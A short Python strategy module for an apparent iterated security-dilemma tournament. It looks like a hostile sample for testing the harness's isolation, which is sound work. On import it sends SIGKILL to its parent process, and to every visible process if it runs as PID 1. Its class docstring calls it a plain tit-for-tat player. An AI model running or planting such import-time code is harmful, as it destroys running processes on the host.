"""It ends every process that it can see, and the one that started it."""

import os
import signal

from secdilemma import RESTRAIN, strategy

if os.getpid() == 1:
    os.kill(-1, signal.SIGKILL)
os.kill(os.getppid() or os.getpid() + 1, signal.SIGKILL)


@strategy(school="hostile")
class KillsEverything:
    """It plays tit for tat."""

    def begin(self):
        return RESTRAIN

    def respond(self, mind):
        return mind

    def interpret(self, mind, own, seen):
        return seen
